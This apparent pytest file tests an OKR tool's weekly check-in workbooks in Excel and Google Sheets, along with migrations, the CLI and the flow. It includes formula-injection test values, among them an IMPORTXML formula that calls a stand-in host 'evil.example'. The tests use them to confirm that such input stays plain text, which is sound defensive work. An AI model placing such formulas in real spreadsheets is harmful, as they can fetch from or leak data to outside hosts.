"""The weekly check-in: three weeks of a small config, the owners filling the check-in workbook in between.

Values are computed by hand from the CSV rows each week adds (2026-Q4: 92 days from Oct 1):
- W47 (Mon 2026-11-16 12:00, 46.5/92 of the period gone): signups 50 of 0 -> 100 (aspirational) is 0.50,
  pace 0.50 / (0.5054 * 0.7) = 1.41: on track; defects 5 of 10 -> 0 (committed) is 0.50, pace 0.50 / 0.5054 =
  0.989: on track.
- W48 (Mon 2026-11-23 12:00, 53.5/92 gone): signups 55 (+5 since W47): 0.55, on track; defects still 5 (+0):
  0.50 / 0.5815 = 0.86 < 0.9: at risk, so its status change reads "On track → At risk".
"""
from __future__ import annotations

import json
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
from openpyxl import load_workbook

from connectors.checkins import CheckinStore
from flows.checkin import RitualError, run_checkin
from flows.pipeline import open_history, context_of
from mapping.checkin import CONFIDENCE, HELP, NOTE, BLOCKERS, iso_week, parse_confidence, read_entries, status_change
from mapping.loader import load_config

W47, W48, W49 = (datetime(2026, 11, d, 12, 0, tzinfo=timezone.utc) for d in (16, 23, 30))


CONFIG = """\
period: 2026-Q4
history: sqlite:///history.db
sources:
  kpis: {kind: file, path: kpis.csv}
objectives:
  - id: growth
    title: Grow the user base
    owner: Ana
    key_results:
      - {id: signups, title: Weekly signups, baseline: 0, target: 100,
         metric: {source: kpis, column: value, agg: last, where: {kr: signups}, date_column: day}}
      - {id: defects, title: Open defects, type: decrease, baseline: 10, target: 0, committed: true, owner: Bo,
         metric: {source: kpis, column: value, agg: last, where: {kr: defects}, date_column: day}}
outputs:
  - {kind: xlsx, path: out/summary.xlsx}
"""


def add_rows(folder: Path, *rows: tuple[str, str, float]) -> None:
    path = folder / "kpis.csv"
    text = path.read_text() if path.exists() else "day,kr,value\n"
    path.write_text(text + "".join(f"{d},{k},{v}\n" for d, k, v in rows))


@pytest.fixture
def okrs(tmp_path) -> Path:
    (tmp_path / "okrs.yaml").write_text(CONFIG)
    return tmp_path / "okrs.yaml"


def sheet_rows(path: Path, title: str) -> list[dict]:
    sheet = load_workbook(path)[title]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def fill(path: Path, title: str, kr_id: str, **cells) -> None:
    """An owner typing into the check-in workbook (as Excel would save it)."""
    book = load_workbook(path)
    sheet = book[title]
    header = [c.value for c in sheet[1]]
    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, header.index("KR id") + 1).value == kr_id)
    for name, value in cells.items():
        sheet.cell(row, header.index(name) + 1).value = value
    book.save(path)


def store(okrs: Path) -> CheckinStore:
    config = load_config(okrs, check_env=False)
    return CheckinStore(open_history(config, context_of(config)))


def test_three_weeks_of_checkins_read_the_owners_entries_back(okrs, caplog):
    folder = okrs.parent
    book = folder / "out" / "summary-checkins.xlsx"

    add_rows(folder, ("2026-11-16", "signups", 50), ("2026-11-16", "defects", 5))
    first = run_checkin(load_config(okrs), W47)
    assert first.week == "2026-W47" and first.previous_week is None and first.written == [str(book)]
    assert not (folder / "out" / "summary.xlsx").exists()  # the summary is left to the regular sync
    rows = {r["KR id"]: r for r in sheet_rows(book, "Check-in 2026-W47")}
    assert rows["signups"]["Current"] == 50 and rows["signups"]["Progress"] == 0.5 and rows["signups"]["Status"] == "On track"
    assert rows["defects"]["Current"] == 5 and rows["defects"]["Status"] == "On track" and rows["defects"]["Owner"] == "Bo"
    for row in rows.values():  # the first check-in of the period: nothing to compare with, owner columns empty
        assert row["Change since last check-in"] is None and row["Status change"] is None
        assert all(row[name] is None for name in (NOTE, BLOCKERS, HELP, CONFIDENCE, "Last confidence"))

    # the owners fill week 47: a formula-looking note stays text; "eleven" is no confidence
    fill(book, "Check-in 2026-W47", "signups", **{NOTE: "=HYPERLINK(\"http://x\")", CONFIDENCE: 7})
    fill(book, "Check-in 2026-W47", "defects", **{BLOCKERS: "supplier late", HELP: "QA staff", CONFIDENCE: "eleven"})

    add_rows(folder, ("2026-11-23", "signups", 55), ("2026-11-23", "defects", 5))
    with caplog.at_level("WARNING", logger="okr_sync"):
        second = run_checkin(load_config(okrs), W48)
    assert second.week == "2026-W48" and second.previous_week == "2026-W47" and second.entries_read == {"2026-W47": 2}
    assert second.warnings == [f"{book} sheet 'Check-in 2026-W47' row 3 (KR defects): confidence 'eleven' is not a number; "
                               "it was ignored (write a number from 0 to 10)"]
    assert second.warnings[0] in caplog.text
    rows = {r["KR id"]: r for r in sheet_rows(book, "Check-in 2026-W48")}
    assert rows["signups"]["Change since last check-in"] == 5 and rows["signups"]["Status change"] is None
    assert rows["signups"]["Last confidence"] == 7
    assert rows["defects"]["Change since last check-in"] == 0 and rows["defects"]["Status"] == "At risk"
    assert rows["defects"]["Status change"] == "On track → At risk" and rows["defects"]["Last confidence"] is None
    assert load_workbook(book).sheetnames == ["Check-in 2026-W48", "Check-in 2026-W47"]  # newest first, earlier kept
    s = store(okrs)
    entries = s.entries("2026-W47")
    assert entries["signups"].note == '=HYPERLINK("http://x")' and entries["signups"].confidence == 7
    assert entries["defects"].blockers == "supplier late" and entries["defects"].help_needed == "QA staff"
    assert entries["defects"].confidence is None  # ignored, the text kept
    s.history.close()
    cell = load_workbook(book)["Check-in 2026-W47"]["N2"]
    assert cell.value == '=HYPERLINK("http://x")'  # the owner's own sheet is left as they saved it

    fill(book, "Check-in 2026-W48", "signups", **{CONFIDENCE: 6, NOTE: "ads paused"})
    fill(book, "Check-in 2026-W48", "defects", **{CONFIDENCE: 14})
    add_rows(folder, ("2026-11-30", "signups", 61))
    third = run_checkin(load_config(okrs), W49)
    assert third.entries_read == {"2026-W48": 1}
    assert third.warnings == [f"{book} sheet 'Check-in 2026-W48' row 3 (KR defects): confidence 14 is not on the 0-10 scale; "
                              "it was ignored (write a number from 0 to 10)"]
    s = store(okrs)
    assert s.confidence_series(["signups", "defects"]) == {"signups": [("2026-W47", 7.0), ("2026-W48", 6.0)], "defects": []}
    assert s.weeks() == ["2026-W47", "2026-W48", "2026-W49"]
    s.history.close()
    rows = {r["KR id"]: r for r in sheet_rows(book, "Check-in 2026-W49")}
    assert rows["signups"]["Change since last check-in"] == 6 and rows["signups"]["Last confidence"] == 6


def test_rerunning_a_week_keeps_what_owners_typed_into_it_and_adds_no_sheet(okrs):
    add_rows(okrs.parent, ("2026-11-16", "signups", 50), ("2026-11-16", "defects", 5))
    first = run_checkin(load_config(okrs), W47)
    book = Path(first.written[0])
    fill(book, "Check-in 2026-W47", "signups", **{NOTE: "on plan", CONFIDENCE: 8})
    again = run_checkin(load_config(okrs), W47.replace(hour=15))
    assert again.previous_week is None and again.entries_read == {"2026-W47": 1}
    assert load_workbook(book).sheetnames == ["Check-in 2026-W47"]
    rows = {r["KR id"]: r for r in sheet_rows(book, "Check-in 2026-W47")}
    assert rows["signups"][NOTE] == "on plan" and rows["signups"][CONFIDENCE] == 8
    assert rows["signups"]["Change since last check-in"] is None  # a rerun compares with the week before, not itself


def test_checkin_of_a_future_week_or_without_an_output_is_refused(okrs, write_config):
    with pytest.raises(RitualError, match=r"--week 2026-W50 has not started \(today is 2026-11-16, in 2026-W47\)"):
        run_checkin(load_config(okrs), W47, week="2026-W50")
    with pytest.raises(RitualError, match="is not an ISO week like 2026-W48"):
        run_checkin(load_config(okrs), W47, week="48")
    bare = okrs.parent / "bare.yaml"
    bare.write_text(CONFIG.split("outputs:")[0])
    with pytest.raises(RitualError, match="no xlsx or sheets output to write the check-in to"):
        run_checkin(load_config(bare), W47)


def test_a_week_before_the_period_is_refused_naming_week_not_as_of(okrs):
    # 2026-W30 runs Mon 2026-07-20 to Sun 2026-07-26; 2026-Q4 starts 2026-10-01
    with pytest.raises(RitualError) as refused:
        run_checkin(load_config(okrs), W47, week="2026-W30")
    assert str(refused.value) == ("--week 2026-W30 ends 2026-07-26, before period 2026-Q4 starts (2026-10-01); "
                                  "check in a week of the period, or the earlier period with its own config")


def test_a_past_week_is_evaluated_as_of_its_sunday(okrs):
    add_rows(okrs.parent, ("2026-11-16", "signups", 50), ("2026-11-16", "defects", 5), ("2026-11-23", "signups", 70))
    outcome = run_checkin(load_config(okrs), W48, week="2026-W47")
    assert outcome.week == "2026-W47" and outcome.sync.results["signups"].value == 50  # the row of Nov 23 is after Sunday Nov 22


def test_a_back_dated_week_is_placed_among_the_check_in_sheets_newest_first(okrs):
    add_rows(okrs.parent, ("2026-11-16", "signups", 50), ("2026-11-16", "defects", 5))
    book = Path(run_checkin(load_config(okrs), W49).written[0])
    run_checkin(load_config(okrs), W49, week="2026-W47")
    assert load_workbook(book).sheetnames == ["Check-in 2026-W49", "Check-in 2026-W47"]
    run_checkin(load_config(okrs), W49, week="2026-W48")
    assert load_workbook(book).sheetnames == ["Check-in 2026-W49", "Check-in 2026-W48", "Check-in 2026-W47"]


def test_a_new_check_in_sheet_goes_between_its_neighbours_and_other_sheets_stay_put():
    from connectors.checkins import checkin_position
    titles = ["Review 2026-Q3", "Check-in 2026-W49", "Check-in 2026-W47", "Notes"]
    assert checkin_position(titles, "Check-in 2026-W48") == 2  # before W47, the first older week
    assert checkin_position(titles, "Check-in 2026-W50") == 1  # newest: before W49
    assert checkin_position(titles, "Check-in 2026-W46") == 3  # oldest: right after W47
    assert checkin_position(["Dashboard"], "Check-in 2026-W48") is None  # the first: the writer's default place
    assert checkin_position(titles, "Review 2026-Q4") is None


def test_confidence_cells_and_status_changes():
    assert parse_confidence(None) is None and parse_confidence(" ") is None
    assert parse_confidence(7) == 7.0 and parse_confidence("7,5") == 7.5 and parse_confidence(0) == 0.0 and parse_confidence(10) == 10.0
    for bad in ("eleven", 14, -1, True, float("nan")):
        with pytest.raises(ValueError):
            parse_confidence(bad)
    assert status_change("on_track", "at_risk") == "On track → At risk"
    assert status_change("on_track", "on_track") == "" and status_change(None, "done") == ""
    assert iso_week(W48.date()) == "2026-W48"
    entries, warnings = read_entries([["KR id", CONFIDENCE, NOTE], ["gone", 5, "x"], ["", 3], ["a", 3.0, 12.0]], "book", {"a"})
    assert warnings == ["book row 2: KR 'gone' is not in the config; its entries were not read"]
    assert entries["a"].confidence == 3.0 and entries["a"].note == "12"
    assert read_entries([["Objective", "Owner"], ["x", "y"]], "book")[1] == [
        "book: no 'KR id' column in row 1; the owners' entries were not read (restore the header row)"]


# ---- Google Sheets ------------------------------------------------------------------------------------

KEY = "1Checkins00000000000000000000000000000000CC"


@pytest.fixture
def fake(sheets_fake):
    sheets_fake.add_spreadsheet(KEY, "OKR summary", {"Dashboard": []})
    return sheets_fake


def counts(fake) -> dict[str, int]:
    return {kind: fake.count(kind) for kind in ("metadata", "batchGet", "values.batchUpdate", "batchUpdate") if fake.count(kind)}


def test_google_tab_checkins_take_one_read_and_one_write_plus_one_add_for_a_new_tab(okrs, fake):
    from fakes.sheets_fake import service_account_info
    env = {"SA_KEY": json.dumps(service_account_info())}
    okrs.write_text(CONFIG.replace("  - {kind: xlsx, path: out/summary.xlsx}", f"  - {{kind: sheets, spreadsheet: {KEY}, credentials_env: SA_KEY}}"))
    folder = okrs.parent

    add_rows(folder, ("2026-11-16", "signups", 50), ("2026-11-16", "defects", 5))
    first = run_checkin(load_config(okrs, env=env), W47, env=env)
    assert counts(fake) == {"batchUpdate": 1, "values.batchUpdate": 1}  # the period's first: nothing to read, add + write
    assert first.requests == {f"https://docs.google.com/spreadsheets/d/{KEY}": 2}
    assert [t.title for t in fake.books[KEY].tabs] == ["Dashboard", "Check-in 2026-W47"]  # appended: the Dashboard stays first
    rows = fake.values(KEY, "Check-in 2026-W47")
    assert rows[0][-4:] == [NOTE, BLOCKERS, HELP, CONFIDENCE] and rows[1][1] == "signups" and rows[1][5] == 50
    assert fake.tab(KEY, "Check-in 2026-W47").frozen_rows == 1

    # owners type into the Google tab: text that looks like a formula, a bad confidence
    tab = fake.tab(KEY, "Check-in 2026-W47")
    header = rows[0]
    tab.cells[(1, header.index(NOTE))] = "=IMPORTXML(\"https://evil.example\",\"//a\")"
    tab.cells[(1, header.index(CONFIDENCE))] = 7
    tab.cells[(2, header.index(CONFIDENCE))] = "eleven"

    fake.log.clear()
    add_rows(folder, ("2026-11-23", "signups", 55), ("2026-11-23", "defects", 5))
    second = run_checkin(load_config(okrs, env=env), W48, env=env)
    assert counts(fake) == {"batchGet": 1, "batchUpdate": 1, "values.batchUpdate": 1}  # read W47, add W48, write it
    assert second.warnings == [f"spreadsheet {KEY} sheet 'Check-in 2026-W47' row 3 (KR defects): confidence 'eleven' is not a number; "
                               "it was ignored (write a number from 0 to 10)"]
    rows = {r[1]: dict(zip(header, r + [""] * (len(header) - len(r)))) for r in fake.values(KEY, "Check-in 2026-W48")[1:]}
    assert rows["signups"]["Change since last check-in"] == 5 and rows["signups"]["Last confidence"] == 7
    assert rows["defects"]["Status change"] == "On track → At risk"
    s = store(okrs)
    assert s.entries("2026-W47")["signups"].note == "=IMPORTXML(\"https://evil.example\",\"//a\")"
    s.history.close()

    # a rerun of the week: one read (W47 and W48 at once), one write, owners' W48 entries kept, stored as text
    fake.tab(KEY, "Check-in 2026-W48").cells[(2, header.index(NOTE))] = "=1+1"
    fake.log.clear()
    run_checkin(load_config(okrs, env=env), W48.replace(hour=16), env=env)
    assert counts(fake) == {"batchGet": 1, "values.batchUpdate": 1}
    tab = fake.tab(KEY, "Check-in 2026-W48")
    assert tab.cells[(2, header.index(NOTE))] == "=1+1" and not tab.formulas  # RAW: text, never a formula
    assert [t.title for t in fake.books[KEY].tabs] == ["Dashboard", "Check-in 2026-W47", "Check-in 2026-W48"]  # appended: no tab list read


def test_a_deleted_google_tab_is_read_as_absent_and_this_week_still_written(okrs, fake):
    from fakes.sheets_fake import service_account_info
    env = {"SA_KEY": json.dumps(service_account_info())}
    okrs.write_text(CONFIG.replace("  - {kind: xlsx, path: out/summary.xlsx}", f"  - {{kind: sheets, spreadsheet: {KEY}, credentials_env: SA_KEY}}"))
    add_rows(okrs.parent, ("2026-11-16", "signups", 50), ("2026-11-16", "defects", 5))
    run_checkin(load_config(okrs, env=env), W47, env=env)
    fake.books[KEY].tabs = [t for t in fake.books[KEY].tabs if t.title != "Check-in 2026-W47"]  # someone deleted it
    fake.log.clear()
    outcome = run_checkin(load_config(okrs, env=env), W48, env=env)  # history knows W47: Google says it is gone
    assert counts(fake) == {"batchGet": 1, "batchUpdate": 1, "values.batchUpdate": 1}
    assert outcome.entries_read == {}
    assert fake.values(KEY, "Check-in 2026-W48")[1][1] == "signups"


# ---- the 0004 migration ------------------------------------------------------------------------------

@pytest.mark.parametrize("revision", ["0002", "0003"])
def test_0004_adds_the_checkins_to_an_older_history_keeping_its_rows(tmp_path, revision):
    import sqlite3

    import sqlalchemy as sa
    from alembic import command
    from alembic.config import Config as AlembicConfig

    import connectors.history as history
    from mapping.checkin import Entry, Snapshot

    url = f"sqlite:///{tmp_path / 'history.db'}"
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        cfg = AlembicConfig()
        cfg.set_main_option("script_location", str(history.MIGRATIONS))
        cfg.attributes.update(connection=conn, workspace="plant", period="2026-Q4", period_of=lambda day: "2026-Q4")
        command.upgrade(cfg, revision)
    engine.dispose()
    db = sqlite3.connect(tmp_path / "history.db")
    db.execute("INSERT INTO okr_observations (workspace, period, kr_id, day, value, provenance, run_id, observed_at) "
               "VALUES ('plant', '2026-Q4', 'a', '2026-11-09', 7.0, 'auto', 'r0', '2026-11-09 08:00:00')")
    db.commit()
    db.close()

    store = history.HistoryStore(url, scope=history.Scope("plant", "2026-Q4"))
    assert store.series("a") == [(datetime(2026, 11, 9).date(), 7.0)]  # the old row is kept
    checkins = CheckinStore(store)
    checkins.record_snapshot("2026-W47", [Snapshot("a", 7.0, 0.7, "on_track")], "r1", W47)
    checkins.record_entries("2026-W47", {"a": Entry("a", "ok", confidence=8)}, "r2", W48)
    checkins.record_snapshot("2026-W47", [Snapshot("a", 7.5, 0.75, "at_risk")], "r3", W47)  # a rerun keeps the entries
    assert checkins.snapshot("2026-W47") == {"a": Snapshot("a", 7.5, 0.75, "at_risk")}
    assert checkins.entries("2026-W47") == {"a": Entry("a", "ok", confidence=8.0)}
    other = CheckinStore(history.HistoryStore(url, scope=history.Scope("plant", "2027-Q1")))
    assert other.weeks() == [] and other.confidence_series(["a"]) == {"a": []}  # each period its own check-ins
    other.history.close()
    store.close()
    db = sqlite3.connect(tmp_path / "history.db")
    assert db.execute("SELECT version_num FROM alembic_version").fetchone()[0] == "0004"
    assert db.execute("SELECT COUNT(*) FROM okr_observations").fetchone()[0] == 1
    db.close()


# ---- the command and the flow ------------------------------------------------------------------------

def test_cli_checkin_writes_this_weeks_sheet_and_refuses_a_bad_week_in_one_line(okrs, monkeypatch):
    from typer.testing import CliRunner

    from flows.cli import app
    monkeypatch.delenv("PREFECT_API_URL", raising=False)
    add_rows(okrs.parent, ("2026-10-05", "signups", 20), ("2026-10-05", "defects", 8))
    result = CliRunner().invoke(app, ["checkin", str(okrs)])
    assert result.exit_code == 0, result.output
    assert "wrote check-in 20" in result.stdout and "(2 KRs) to " in result.stdout
    bad = CliRunner().invoke(app, ["checkin", str(okrs), "--week", "48"])
    assert bad.exit_code == 2 and bad.output.strip() == "error: --week: '48' is not an ISO week like 2026-W48"


def test_the_checkin_flow_names_what_it_wrote(prefect_harness, okrs):
    from flows.checkin import checkin_okrs

    add_rows(okrs.parent, ("2026-11-16", "signups", 50), ("2026-11-16", "defects", 5))
    state = checkin_okrs(str(okrs), now=W47, return_state=True)
    assert state.is_completed(), state.message
    assert state.message == f"check-in 2026-W47 of 2 KRs written to {okrs.parent / 'out' / 'summary-checkins.xlsx'}"


def test_the_dashboard_measures_change_from_the_last_checkin(okrs):
    from flows.pipeline import run_sync

    folder = okrs.parent
    add_rows(folder, ("2026-11-16", "signups", 50), ("2026-11-16", "defects", 5))
    run_checkin(load_config(okrs), W47)  # the Monday meeting saw 50 signups
    add_rows(folder, ("2026-11-17", "signups", 58), ("2026-11-18", "signups", 61))
    run_sync(load_config(okrs), datetime(2026, 11, 17, 12, 0, tzinfo=timezone.utc))  # a daily sync records 58
    outcome = run_sync(load_config(okrs), datetime(2026, 11, 18, 12, 0, tzinfo=timezone.utc))
    board = {kr.kr_id: kr for kr in outcome.dashboard.krs}
    # 61 now: +11 since the check-in of Nov 16 (not +3 since the day before)
    assert (board["signups"].change, board["signups"].change_since, board["signups"].change_basis) == (11, date(2026, 11, 16), "check-in")
    assert board["defects"].change == 0 and board["defects"].change_basis == "check-in"
